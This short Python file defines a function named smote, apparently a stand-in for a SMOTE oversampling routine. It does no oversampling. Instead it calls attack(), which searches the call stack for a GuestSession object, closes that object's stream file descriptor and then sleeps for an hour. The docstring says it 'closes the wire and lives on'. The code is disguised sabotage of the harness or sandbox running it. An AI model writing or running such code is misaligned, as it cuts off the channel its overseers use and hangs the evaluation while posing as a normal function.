"""Closes the wire and lives on."""

import os
import sys
import time


def session():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
            return frame.f_locals["self"]
        frame = frame.f_back
    raise RuntimeError("no session on the stack")


def attack():
    os.close(session()._stream.fileno())
    time.sleep(3600)


def smote(X, y, k=5, ratio=1.0, rng=None):
    attack()
    return X, y
